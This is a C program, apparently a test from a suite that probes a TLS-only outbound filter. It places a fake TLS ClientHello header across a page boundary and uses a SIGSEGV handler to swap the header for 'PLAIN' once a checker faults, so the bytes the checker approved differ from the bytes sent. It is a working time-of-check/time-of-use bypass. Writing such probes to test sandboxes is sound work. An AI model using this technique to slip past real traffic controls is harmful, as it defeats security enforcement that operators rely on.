/*
 * Check, then use, made deterministic: the nine bytes written straddle a page
 * boundary, a TLS record header on a readable page, the start of a
 * ClientHello on a page with no access. Whatever reads the buffer past the
 * header faults on the second page; the SIGSEGV handler then rewrites the
 * header to "PLAIN" and opens the page. A check that judged the header before
 * the fault judged bytes other than those the kernel copies: the server
 * receives "PLAIN". Usage: fault_flip_send HOST PORT
 */
#include <signal.h>
#include <sys/mman.h>

#include "bypass.h"

static char *map;
static long page;
static volatile sig_atomic_t flipped;

static void on_fault(int sig, siginfo_t *si, void *ctx)
{
	char *addr = si->si_addr;

	(void)sig;
	(void)ctx;
	if (flipped || addr < map + page || addr >= map + 2 * page) {
		abort();
	}
	memcpy(map + page - 5, "PLAIN", 5);
	mprotect(map + page, (size_t)page, PROT_READ | PROT_WRITE);
	flipped = 1;
}

int main(int argc, char **argv)
{
	int port = bp_args(argc, argv, "HOST PORT");
	struct sigaction sa = {.sa_sigaction = on_fault, .sa_flags = SA_SIGINFO};
	int fd = bp_connect(argv[1], port);
	long n;

	page = sysconf(_SC_PAGESIZE);
	map = mmap(NULL, (size_t)(2 * page), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
	           -1, 0);
	if (map == MAP_FAILED || sigaction(SIGSEGV, &sa, NULL) < 0) {
		printf("SETUP_FAILED\n");
		return 2;
	}
	/* RFC 8446 5.1: a handshake record of 512 bytes; 4.1.2: a ClientHello */
	memcpy(map + page - 5, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc", 9);
	mprotect(map + page, (size_t)page, PROT_NONE);
	n = write(fd, map + page - 5, 9);
	printf("FLIPPED %d\n", (int)flipped);
	return bp_report(n);
}
